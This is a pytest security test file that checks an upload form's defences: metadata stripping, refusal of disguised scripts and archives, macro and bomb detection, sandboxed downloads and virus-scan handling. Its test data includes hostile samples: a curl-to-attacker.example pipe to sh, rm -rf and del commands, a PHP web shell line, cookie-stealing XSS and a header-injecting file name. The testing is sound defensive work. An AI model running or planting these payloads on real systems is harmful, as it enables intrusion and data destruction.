"""Evidence files as an attacker would send them (ASVS V5 file handling, V12 files and resources).

Uploads go through the real report form and are read back from the database: photos lose their
location and every other piece of metadata, disguised scripts, web pages and archives are
refused with a message while the typed report stays in the form, downloads are sandboxed, and
the virus-scan hook refuses what a scanner flags or could not check. The shipped ClamAV client
talks to a small clamd stand-in listening on a real socket.
"""

from __future__ import annotations

import hashlib
import io
import socket
import struct
import threading
import zipfile
import zlib
from pathlib import Path

import pytest
import sqlalchemy as sa
from PIL import ExifTags, Image, PngImagePlugin

from config import TestingConfig
from mel_app import create_app
from mel_app.extensions import db
from mel_app.models import Attachment, AuditEvent, Status
from mel_app.security import UNTRUSTED_FILE_POLICY, content_disposition
from mel_app.submissions.files import FileRejected, sniff
from mel_app.submissions.scanning import ScanResult, instream
from tests.submissions_world import add_submission, build_world, post, report_payload, signed_in, state

THIS = "tests.security.test_evidence"
GREEN = (0, 200, 0)
RED = (200, 30, 30)


# ---------------------------------------------------------------------------------------------
# Files an attacker (or a careless phone) sends


def gps_jpeg() -> bytes:
    """A 40×20 photo, taken with the phone turned (orientation 6), with its GPS position."""
    img = Image.new("RGB", (40, 20), RED)
    img.paste(GREEN, (0, 0, 8, 8))  # top-left corner as stored, before turning
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # shown turned 90° clockwise
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Model X-1"
    exif[ExifTags.Base.DateTime] = "2026:03:08 10:15:00"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "S"
    gps[ExifTags.GPS.GPSLatitude] = (1.0, 17.0, 30.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (36.0, 49.0, 12.25)
    out = io.BytesIO()
    img.save(
        out,
        format="JPEG",
        quality=95,
        exif=exif,
        comment=b"Taken at the union office",
        xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">Location: union office</x:xmpmeta>',
    )
    return out.getvalue()


def tagged_png() -> bytes:
    img = Image.new("RGBA", (6, 4), (10, 20, 30, 128))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitudeRef] = "N"
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", "Grace Wanjiru")
    text.add_text("Location", "Union office, Nairobi")
    out = io.BytesIO()
    img.save(out, format="PNG", exif=exif, pnginfo=text)
    return out.getvalue()


def png_header_bomb(width: int, height: int) -> bytes:
    """A tiny PNG whose header announces width × height pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def docx(extra: dict[str, bytes] | None = None, *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        archive.writestr("word/document.xml", '<?xml version="1.0"?><document/>')
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("report.pdf", b"%PDF-1.4 inside")
    return out.getvalue()


SCRIPTS_RENAMED_PDF = {
    "shell": b"#!/bin/sh\ncurl http://attacker.example/x | sh\n",
    "python": b"#!/usr/bin/env python3\nimport os\nos.system('rm -rf ~')\n",
    "javascript": b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe');\n",
    "batch": b"@echo off\r\ndel /q C:\\*\r\n",
}
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# ---------------------------------------------------------------------------------------------
# Through the real form


@pytest.fixture
def setup(app, make, login):
    world = build_world(make)
    sub_id = add_submission(app, world, Status.draft)
    author = signed_in(app, login, world, "author")
    return world, sub_id, author


def upload(client, world, sub_id, files, **fields):
    data = report_payload(world, state(client.application, sub_id)[1], **fields)
    data["evidence"] = [(io.BytesIO(content), name) for name, content in files]
    return post(client, f"/submissions/{sub_id}/save", data, content_type="multipart/form-data")


def stored(app, sub_id) -> list[dict]:
    with app.app_context():
        rows = db.session.scalars(
            sa.select(Attachment).where(Attachment.submission_id == sub_id).order_by(Attachment.id)
        ).all()
        return [
            {
                "id": a.id,
                "filename": a.filename,
                "media_type": a.media_type,
                "size": a.size,
                "sha256": a.sha256,
                "data": a.data,
            }
            for a in rows
        ]


def test_a_gps_tagged_photo_is_stored_upright_without_any_metadata(app, setup):
    world, sub_id, author = setup
    original = gps_jpeg()
    source = Image.open(io.BytesIO(original))
    assert source.getexif().get_ifd(ExifTags.IFD.GPSInfo), "the sample does carry a GPS position"

    resp = upload(author, world, sub_id, [("meeting.jpg", original)])
    assert resp.status_code == 302
    [item] = stored(app, sub_id)
    data = item["data"]
    assert item["media_type"] == "image/jpeg"
    assert item["sha256"] == hashlib.sha256(data).hexdigest(), "the hash is of the stored bytes"
    assert item["size"] == len(data) and data != original

    photo = Image.open(io.BytesIO(data))
    assert photo.format == "JPEG"
    assert dict(photo.getexif()) == {}, "no EXIF at all: no GPS, camera, time or orientation"
    assert not photo.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert not {"exif", "xmp", "comment"} & set(photo.info)
    for secret in (b"PhoneMaker", b"Model X-1", b"2026:03:08", b"union office", b"Exif\x00\x00"):
        assert secret not in data
    # Turned as the phone meant it to be seen: 20 wide, 40 high, the green corner now top-right.
    assert photo.size == (20, 40)
    rgb = photo.convert("RGB")
    assert _near(rgb.getpixel((17, 2)), GREEN) and _near(rgb.getpixel((2, 2)), RED)

    with author.get(f"/submissions/{sub_id}/attachments/{item['id']}") as download:
        assert download.data == data, "what is downloaded is what was stored"


def _near(pixel, colour, tolerance=40) -> bool:
    return all(abs(a - b) <= tolerance for a, b in zip(pixel, colour, strict=True))


def test_a_png_loses_its_exif_and_text_chunks_but_keeps_its_transparency(app, setup):
    world, sub_id, author = setup
    assert upload(author, world, sub_id, [("chart.png", tagged_png())]).status_code == 302
    [item] = stored(app, sub_id)
    for secret in (b"PhoneMaker", b"Grace Wanjiru", b"Nairobi", b"eXIf", b"tEXt"):
        assert secret not in item["data"]
    image = Image.open(io.BytesIO(item["data"]))
    assert image.mode == "RGBA" and image.getpixel((0, 0)) == (10, 20, 30, 128)
    assert item["sha256"] == hashlib.sha256(item["data"]).hexdigest()


@pytest.mark.parametrize("kind", sorted(SCRIPTS_RENAMED_PDF))
def test_a_script_renamed_pdf_is_refused_and_the_typed_report_is_kept(app, setup, kind):
    world, sub_id, author = setup
    before = state(app, sub_id)
    resp = upload(
        author, world, sub_id, [("report.pdf", SCRIPTS_RENAMED_PDF[kind])], achievements="Forty shop stewards"
    )
    assert resp.status_code == 422
    page = resp.get_data(as_text=True)
    assert "report.pdf is not one of the accepted kinds of file" in page
    assert "Forty shop stewards" in page, "what the user typed stays in the form"
    assert stored(app, sub_id) == [] and state(app, sub_id) == before


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("photo.jpg", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
        ("photo.jpeg", b"<html><img src=x onerror=alert(1)></html>"),
        ("photo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("notes.txt", b"<script>alert(document.cookie)</script>"),
        ("notes.txt", b"#!/bin/bash\nrm -rf /\n"),
        ("members.csv", b"<?php system($_GET['c']); ?>"),
    ],
)
def test_web_pages_images_and_scripts_in_disguise_are_refused(app, setup, name, content):
    world, sub_id, author = setup
    resp = upload(author, world, sub_id, [(name, content)], achievements="My words")
    assert resp.status_code == 422
    page = resp.get_data(as_text=True)
    assert f"{name} is not one of the accepted kinds of file" in page and "My words" in page
    assert stored(app, sub_id) == []


# Plain text of a realistic size before the payload: the whole file is checked, not its start.
_NOTES = b"Meeting notes: the committee met twice; 18 women and 12 men attended.\r\n" * 80


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("notes.txt", _NOTES + b"<script>alert(document.cookie)</script>\r\n"),
        ("notes.txt", _NOTES + b"<html><body onload=alert(1)>hello</body></html>"),
        ("notes.txt", _NOTES + b"<img src=x onerror=alert(1)>"),
        ("members.csv", b"name;women;men\n<?php system($_GET['c']); ?>\n"),
        ("members.csv", b"name;women;men\nNairobi;18;12\n" * 300 + b"<?php echo 1; ?>\n"),
        ("members.csv", b"name;women;men\n<%= Runtime.getRuntime() %>\n"),
    ],
    ids=["script-after-4kb", "html-after-4kb", "img-after-4kb", "php-line-2", "php-at-the-end", "jsp-line-2"],
)
def test_markup_or_page_code_anywhere_in_a_text_file_is_refused(app, setup, name, content):
    world, sub_id, author = setup
    assert len(content) > 4096 or content.count(b"\n") >= 2
    resp = upload(author, world, sub_id, [(name, content)], achievements="My words")
    assert resp.status_code == 422
    page = resp.get_data(as_text=True)
    assert f"{name} is not one of the accepted kinds of file" in page and "My words" in page
    assert stored(app, sub_id) == []


def test_text_that_only_looks_like_markup_is_accepted(app, setup):
    """Comparisons, percentages and e-mail addresses in angle brackets are ordinary text."""
    world, sub_id, author = setup
    content = _NOTES + b"Wages <5% below the minimum; ratio <%5; <headcount> 40; <rep@example.org>\r\n"
    assert upload(author, world, sub_id, [("notes.txt", content)]).status_code == 302
    assert [item["filename"] for item in stored(app, sub_id)] == ["notes.txt"]


def test_a_zip_is_refused_as_an_archive(app, setup):
    world, sub_id, author = setup
    resp = upload(author, world, sub_id, [("evidence.zip", plain_zip())], achievements="Kept")
    assert resp.status_code == 422
    page = resp.get_data(as_text=True)
    assert "evidence.zip is an archive" in page and "Unpack it" in page and "Kept" in page
    # Renamed to look like a document, it is still refused.
    resp = upload(author, world, sub_id, [("minutes.docx", plain_zip())])
    assert resp.status_code == 422
    assert stored(app, sub_id) == []


@pytest.mark.parametrize(
    ("name", "magic"),
    [
        ("files.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64),
        ("files.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 64),
        ("files.gz", b"\x1f\x8b\x08\x00" + b"\x00" * 64),
        ("files.tar", b"\x00" * 257 + b"ustar\x0000" + b"\x00" * 300),
        ("files.pdf", b"\x1f\x8b\x08\x00" + b"\x00" * 64),
    ],
)
def test_every_kind_of_archive_is_refused_whatever_its_name(app, name, magic):
    with app.test_request_context(), pytest.raises(FileRejected, match="archive"):
        sniff(magic, name)


def test_office_documents_are_accepted_only_when_genuine_passive_and_bounded(app, setup):
    world, sub_id, author = setup
    bomb = docx({"word/media/filler.xml": b"\x00" * 150_000_000})
    samples = {
        "macros.docx": docx({"word/vbaProject.bin": b"\x00macro"}),
        "activex.docx": docx({"word/activeX/activeX1.bin": b"\x00control"}),
        "embedded.docx": docx({"word/embeddings/oleObject1.bin": b"MZ\x90\x00program"}),
        "bomb.docx": bomb,
        "nocontenttypes.docx": _without(docx(), "[Content_Types].xml"),
    }
    assert len(bomb) < 1_000_000, "a small file that unpacks to 150 MB"
    for name, content in samples.items():
        resp = upload(author, world, sub_id, [(name, content)], achievements="Typed")
        assert resp.status_code == 422, name
        page = resp.get_data(as_text=True)
        assert name in page and "Typed" in page
    messages = {
        "macros.docx": "contains macros or embedded programs",
        "embedded.docx": "contains macros or embedded programs",
        "bomb.docx": "unpacks to far more data than a document holds",
        "nocontenttypes.docx": "damaged or not a genuine document",
    }
    for name, message in messages.items():
        page = upload(author, world, sub_id, [(name, samples[name])]).get_data(as_text=True)
        assert message in page, name
    assert stored(app, sub_id) == []
    # A genuine document (with an embedded chart workbook, as Word makes them) is fine.
    genuine = docx({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK\x03\x04chart"})
    assert upload(author, world, sub_id, [("minutes.docx", genuine)]).status_code == 302
    assert [s["filename"] for s in stored(app, sub_id)] == ["minutes.docx"]


def _without(data: bytes, member: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if info.filename != member:
                target.writestr(info, source.read(info))
    return out.getvalue()


def test_a_document_whose_parts_lie_about_their_size_is_refused(app):
    data = bytearray(docx({"word/media/filler.xml": b"x" * 5_000_000}))
    # Make the filler claim 1 kB in both headers: the real size only shows when it is unpacked.
    name = b"word/media/filler.xml"
    local = data.find(name) - 30  # the local header comes first, its name 30 bytes in
    central = data.find(name, local + 31) - 46  # then the central directory's, 46 bytes in
    assert data[local : local + 4] == b"PK\x03\x04" and data[central : central + 4] == b"PK\x01\x02"
    struct.pack_into("<I", data, local + 22, 1000)
    struct.pack_into("<I", data, central + 24, 1000)
    with app.test_request_context(), pytest.raises(FileRejected, match="damaged"):
        sniff(bytes(data), "minutes.docx")


def test_an_image_bomb_gets_a_clear_refusal_not_an_error(app, setup):
    world, sub_id, author = setup
    # 100,000 × 100,000 pixels announced in a file of a few bytes: refused before decoding.
    resp = upload(
        author, world, sub_id, [("huge.png", png_header_bomb(100_000, 100_000))], achievements="Mine"
    )
    assert resp.status_code == 422
    page = resp.get_data(as_text=True)
    assert "huge.png has too many pixels to be processed (at most 50 megapixels)" in page
    assert "Mine" in page
    # The limit is a setting: below Pillow's own, it is ours that refuses.
    app.config["MAX_IMAGE_PIXELS"] = 500  # the photo has 800
    resp = upload(author, world, sub_id, [("photo.jpg", gps_jpeg())])
    assert resp.status_code == 422
    assert "photo.jpg has too many pixels to be processed (at most 0.0005 megapixels)" in resp.get_data(
        as_text=True
    )
    assert stored(app, sub_id) == []


def test_a_damaged_picture_is_refused_with_a_message(app, setup):
    world, sub_id, author = setup
    broken = gps_jpeg()[:300]
    resp = upload(author, world, sub_id, [("photo.jpg", broken)])
    assert resp.status_code == 422
    assert "photo.jpg is damaged or not a genuine picture" in resp.get_data(as_text=True)


def test_a_polyglot_photo_loses_what_was_hidden_after_the_picture(app, setup):
    """A JPEG with a web page appended is still a picture; saving it again drops the page."""
    world, sub_id, author = setup
    polyglot = gps_jpeg() + b"<html><script>alert(1)</script></html>"
    assert upload(author, world, sub_id, [("photo.jpg", polyglot)]).status_code == 302
    [item] = stored(app, sub_id)
    assert b"<script>" not in item["data"]


# ---------------------------------------------------------------------------------------------
# Downloads


def test_the_download_is_a_sandboxed_attachment_with_a_safe_name(app, setup):
    world, sub_id, author = setup
    name = "Rapport final; été (2026).pdf"
    assert upload(author, world, sub_id, [(name, PDF)]).status_code == 302
    [item] = stored(app, sub_id)
    with author.get(f"/submissions/{sub_id}/attachments/{item['id']}") as resp:
        assert resp.status_code == 200
        assert resp.headers["Content-Security-Policy"] == UNTRUSTED_FILE_POLICY
        assert "sandbox" in resp.headers["Content-Security-Policy"]
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
        assert resp.headers["Content-Type"] == "application/pdf"
        assert "no-store" in resp.headers["Cache-Control"]
        assert resp.headers["Content-Disposition"] == (
            'attachment; filename="Rapport final_ ete (2026).pdf"; '
            "filename*=UTF-8''Rapport%20final%3B%20%C3%A9t%C3%A9%20%282026%29.pdf"
        )


def test_no_file_name_can_break_out_of_the_download_header():
    value = content_disposition('a"b\\c;\r\nSet-Cookie: x=1.pdf')
    fallback = value.split("; filename*=")[0]
    assert fallback == 'attachment; filename="a_b_c___Set-Cookie_ x_1.pdf"'
    assert "\r" not in value and "\n" not in value and value.count('"') == 2


# ---------------------------------------------------------------------------------------------
# The virus-scan hook, with scanners written here and named by their dotted path

SCANNED: list[tuple[str, bytes]] = []


def clean_scanner(data: bytes, filename: str) -> ScanResult:
    SCANNED.append((filename, data))
    return ScanResult.clean()


def infected_scanner(data: bytes, filename: str) -> ScanResult:
    return ScanResult.infected("Eicar-Test-Signature") if EICAR in data else ScanResult.clean()


def failing_scanner(data: bytes, filename: str) -> ScanResult:
    return ScanResult.error("database update in progress")


def crashing_scanner(data: bytes, filename: str) -> ScanResult:
    raise ConnectionResetError("scanner went away")


def confused_scanner(data: bytes, filename: str):
    return "OK"


def test_a_clean_file_is_stored_after_the_scanner_saw_it(app, setup):
    world, sub_id, author = setup
    app.config["EVIDENCE_SCANNER"] = f"{THIS}:clean_scanner"
    SCANNED.clear()
    content = b"Meeting notes: forty members attended.\n"
    assert upload(author, world, sub_id, [("notes.txt", content)]).status_code == 302
    assert [("notes.txt", content)] == SCANNED
    assert [s["data"] for s in stored(app, sub_id)] == [content]


def test_an_infected_file_is_refused_with_a_message_and_recorded_in_the_audit_trail(app, setup):
    world, sub_id, author = setup
    app.config["EVIDENCE_SCANNER"] = f"{THIS}.infected_scanner"  # the dotted form works too
    before = state(app, sub_id)
    resp = upload(
        author, world, sub_id, [("notes.txt", EICAR), ("ok.txt", b"fine")], achievements="Still here"
    )
    assert resp.status_code == 422
    page = resp.get_data(as_text=True)
    assert "notes.txt was refused: the virus scanner found Eicar-Test-Signature in it" in page
    assert "Still here" in page
    assert stored(app, sub_id) == [] and state(app, sub_id) == before, "nothing of the request is saved"
    with app.app_context():
        event = db.session.scalars(
            sa.select(AuditEvent).where(AuditEvent.action == "evidence.infected")
        ).one()
        assert event.reason == "Eicar-Test-Signature"
        assert event.after["filename"] == "notes.txt"
        assert event.after["sha256"] == hashlib.sha256(EICAR).hexdigest()
        assert event.actor_id == world.users["author"] and event.entity_id == str(sub_id)


@pytest.mark.parametrize("scanner", ["failing_scanner", "crashing_scanner", "confused_scanner"])
def test_a_file_the_scanner_could_not_check_is_refused_not_stored(app, setup, scanner, monkeypatch):
    world, sub_id, author = setup
    app.config["EVIDENCE_SCANNER"] = f"{THIS}:{scanner}"
    monkeypatch.setattr(app.logger, "disabled", True)  # shared by every app of the run
    resp = upload(author, world, sub_id, [("notes.txt", b"plain notes")], achievements="Typed")
    assert resp.status_code == 422
    page = resp.get_data(as_text=True)
    assert "notes.txt could not be checked for viruses just now, so it was not saved" in page
    assert "try again" in page and "Typed" in page
    assert stored(app, sub_id) == []


def test_a_scanner_setting_that_names_nothing_stops_the_app_at_start_up():
    with pytest.raises(SystemExit, match="EVIDENCE_SCANNER"):
        create_app(TestingConfig, SQLALCHEMY_DATABASE_URI="sqlite://", EVIDENCE_SCANNER=f"{THIS}:no_such")


# ---------------------------------------------------------------------------------------------
# The ClamAV client against a clamd stand-in on a real socket


class FakeClamd:
    """Speaks clamd's INSTREAM: reads length-prefixed chunks, answers OK or FOUND."""

    def __init__(self, family=socket.AF_INET, address=("127.0.0.1", 0), *, reply: bytes | None = None):
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.bind(address)
        self.sock.listen(4)
        self.reply = reply
        self.received: list[bytes] = []
        self.chunks: list[int] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _addr = self.sock.accept()
            except OSError:
                return
            with conn:
                self._answer(conn)

    def _read(self, conn, size: int) -> bytes:
        data = b""
        while len(data) < size:
            piece = conn.recv(size - len(data))
            if not piece:
                raise ConnectionError("client went away")
            data += piece
        return data

    def _answer(self, conn) -> None:
        command = self._read(conn, len(b"zINSTREAM\0"))
        assert command == b"zINSTREAM\0"
        body = b""
        while True:
            (length,) = struct.unpack("!L", self._read(conn, 4))
            if length == 0:
                break
            self.chunks.append(length)
            body += self._read(conn, length)
        self.received.append(body)
        if self.reply is not None:
            conn.sendall(self.reply)
        elif EICAR in body:
            conn.sendall(b"stream: Eicar-Test-Signature FOUND\0")
        else:
            conn.sendall(b"stream: OK\0")

    def close(self) -> None:
        # Wakes the accept() waiting in the thread, so nothing listens any more.
        if self.sock.fileno() != -1:
            self.sock.shutdown(socket.SHUT_RDWR)
            self.sock.close()
        self.thread.join(2)


@pytest.fixture
def clamd():
    server = FakeClamd()
    yield server
    server.close()


def test_the_clamav_client_streams_the_file_in_chunks_and_reads_the_verdict(clamd):
    address = f"tcp:127.0.0.1:{clamd.sock.getsockname()[1]}"
    big = b"%PDF-1.4\n" + b"x" * 200_000
    assert instream(address, big) == ScanResult.clean()
    assert clamd.received == [big] and len(clamd.chunks) == 4 and max(clamd.chunks) == 64 * 1024
    assert instream(address, b"prefix " + EICAR) == ScanResult.infected("Eicar-Test-Signature")


def test_the_clamav_client_over_a_unix_socket(tmp_path: Path):
    server = FakeClamd(socket.AF_UNIX, str(tmp_path / "clamd.ctl"))
    try:
        assert instream(f"unix:{tmp_path / 'clamd.ctl'}", EICAR).verdict == "infected"
    finally:
        server.close()


def test_clamd_errors_and_silence_are_errors(tmp_path: Path):
    server = FakeClamd(reply=b"INSTREAM size limit exceeded. ERROR\0")
    try:
        result = instream(f"tcp:127.0.0.1:{server.sock.getsockname()[1]}", b"data")
        assert result.verdict == "error" and "size limit" in result.detail
    finally:
        server.close()
    assert instream(f"unix:{tmp_path / 'nobody-listens'}", b"data").verdict == "error"
    assert instream("carrier-pigeon:somewhere", b"data").verdict == "error"


def test_the_clamav_scanner_through_the_form(app, setup, clamd, monkeypatch):
    world, sub_id, author = setup
    app.config["EVIDENCE_SCANNER"] = "mel_app.submissions.scanning:clamd_scan"
    app.config["CLAMD_ADDRESS"] = f"tcp:127.0.0.1:{clamd.sock.getsockname()[1]}"
    resp = upload(author, world, sub_id, [("notes.txt", EICAR)])
    assert resp.status_code == 422
    assert "the virus scanner found Eicar-Test-Signature" in resp.get_data(as_text=True)
    assert upload(author, world, sub_id, [("notes.txt", b"clean notes")]).status_code == 302
    assert [s["filename"] for s in stored(app, sub_id)] == ["notes.txt"]
    # clamd down: the file waits for a later try rather than being stored unchecked.
    clamd.close()
    monkeypatch.setattr(app.logger, "disabled", True)  # shared by every app of the run
    resp = upload(author, world, sub_id, [("more.txt", b"more notes")])
    assert resp.status_code == 422
    assert "could not be checked for viruses" in resp.get_data(as_text=True)
    assert [s["filename"] for s in stored(app, sub_id)] == ["notes.txt"]
